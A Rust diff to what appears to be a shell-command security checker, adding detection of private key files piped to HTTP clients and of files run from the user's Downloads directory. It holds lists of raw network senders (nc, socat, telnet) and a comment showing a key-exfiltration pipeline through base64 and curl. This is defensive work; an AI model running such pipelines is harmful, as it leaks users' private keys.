@@ -87,6 +87,16 @@ const SENDERS: &[&str] = &[
 const RAW_SENDERS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet"];
 
 /// Whether program `name` sends what reaches it: any sender, or only a raw one.
+/// Programs that print a file whole, or encoded, compressed or archived whole: what they read
+/// of a key file is the key.
+const KEY_READERS: &[&str] = &[
+    "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip",
+    "bzip2", "xz", "zstd", "tar", "zip", "strings",
+];
+
+/// The HTTP clients whose upload bodies are classed (`paths::classify`).
+const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];
+
 fn sends(name: &str, raw_only: bool) -> bool {
     NAME_PROBES.contains(&name) || if raw_only { RAW_SENDERS } else { SENDERS }.contains(&name)
 }
@@ -131,6 +141,23 @@ fn stages(word: &str, path: &str) -> bool {
 /// The operands of `argv` (words after the name that are no option).
 fn operands(argv: &[String]) -> impl Iterator<Item = &String> {
     argv.iter().skip(1).filter(|w| !w.starts_with('-'))
+}
+
+/// Whether `path` lies in the user's Downloads directory (`~/Downloads/x`, `$HOME/Downloads/x`,
+/// `/home/u/Downloads/x`, `/Users/u/Downloads/x`): where browsers save what they fetch.
+fn in_downloads(path: &str) -> bool {
+    let path = path.trim_matches(['\'', '"']);
+    let rest = ["~/", "$HOME/", "${HOME}/", "/root/"]
+        .iter()
+        .find_map(|p| path.strip_prefix(p))
+        .or_else(|| {
+            ["/home/", "/Users/"].iter().find_map(|root| {
+                let (user, rest) = path.strip_prefix(root)?.split_once('/')?;
+                (!user.is_empty()).then_some(rest)
+            })
+        });
+    rest.and_then(|r| r.strip_prefix("Downloads/"))
+        .is_some_and(|f| !f.is_empty())
 }
 
 /// Whether `path` lies under directory `dir` (not the working directory itself, which holds
@@ -765,6 +792,27 @@ impl Walker {
                     added.push(part);
                 }
             }
+            // A key file of the project read whole and piped to an HTTP client (`base64 -w0
+            // certs/tls-key.pem | xargs -I{} curl "URL?k={}"`): the client sends the key as
+            // if it named it as its body (`curl @certs/tls-key.pem URL`), which the class of a
+            // key file sent away judges.
+            if source.is_none()
+                && KEY_READERS.contains(&name.as_str())
+                && let Some(file) = operands(argv).find(|w| crate::paths::names_key_file(w))
+            {
+                for j in downstream(&cmds, &self.out.links, i) {
+                    let to = &cmds[j];
+                    if !HTTP_CLIENTS.contains(&to.name()) {
+                        continue;
+                    }
+                    let label = format!("`{file}`, a key file read earlier on the line, sent");
+                    let mut send = to.argv.clone();
+                    send.push(format!("@{file}"));
+                    let mut part = synthetic(send, to, &label);
+                    part.pipeline = to.pipeline;
+                    added.push(part);
+                }
+            }
             // A copy sent on: the command names it, or its output reaches a sender.
             let echoed = matches!(direct, Some(Source::Env(Some(_))))
                 && matches!(name.as_str(), "echo" | "printf");
@@ -939,6 +987,16 @@ impl Walker {
                         .find(|(d, _)| lies_under(d, &assets))
                         .map(|(d, url)| (d.clone(), url.clone()))
                 });
+            // A file of the user's Downloads directory run (a script given to its interpreter,
+            // a program started, Blender's `-P`, `java -jar`, an editor's extension): code
+            // fetched from somewhere earlier that nobody on the line reviewed, judged as `sh
+            // FILE` there, which `downloaded file run` denies.
+            if found.is_none()
+                && let Some(file) = run.filter(|f| in_downloads(f))
+            {
+                let label = format!("`{file}`, a file of the user's Downloads directory, run");
+                added.push(synthetic(vec!["sh".into(), file.to_string()], c, &label));
+            }
             if let Some((file, runner)) = found {
                 let label = if root {
                     format!("`{file}`, downloaded earlier on the line, run as root")
